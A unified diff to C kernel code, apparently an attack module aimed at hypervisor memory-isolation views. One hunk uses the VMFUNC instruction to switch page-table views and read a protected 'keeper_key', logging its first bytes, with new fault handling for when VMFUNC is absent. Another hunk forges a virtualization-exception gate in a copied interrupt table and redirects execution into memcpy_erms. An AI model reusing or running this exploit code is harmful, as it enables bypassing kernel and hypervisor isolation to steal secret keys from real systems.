@@ -117,14 +117,20 @@ static int attack_report(void)
 /* Into every view, from here: what is reached can be used only if the next instruction runs. */
 static int attack_vmfunc(void)
 {
-    u64 *key = (u64 *)lookup("keeper_key"), seen;
+    u64 *key = (u64 *)lookup("keeper_key"), seen = 0;
+    bool absent = true;
 
     if (!key)
         return -ENOENT;
-    asm volatile("vmfunc\n\tmov (%[key]), %[seen]"
-                 : [seen] "=&r"(seen)
+    asm volatile("1: vmfunc\n\tmov (%[key]), %[seen]\n\tmovb $0, %[absent]\n"
+                 "2:\n" _ASM_EXTABLE(1b, 2b)
+                 : [seen] "+&r"(seen), [absent] "+&r"(absent)
                  : "a"(0), "c"(2), [key] "r"(key)
                  : "memory");
+    if (absent) {
+        pr_alert("vmfunc: there is none, and no view to go to\n");
+        return -EPERM;
+    }
     pr_alert("vmfunc: the key begins with %016llx\n", seen);
     return 0;
 }
@@ -296,7 +302,7 @@ static void ask_for_patch(void *to, const void *from, gate_desc *idt, unsigned l
     asm volatile("sidt %0" : "=m"(made_up.idt));
     memcpy(idt, (void *)made_up.idt.address, PAGE_SIZE);
     pack_gate(&idt[X86_TRAP_VE], GATE_INTERRUPT, (unsigned long)made_up_handler, 0, 0, __KERNEL_CS);
-    made_up.gate = lookup("gate_ve_entry");
+    made_up.gate = gate_offset(&((gate_desc *)made_up.idt.address)[X86_TRAP_VE]);
     made_up.rip = lookup("memcpy_erms") + 6;
     made_up.stack = (u64)stack;
     made_up.to = (u64)to;
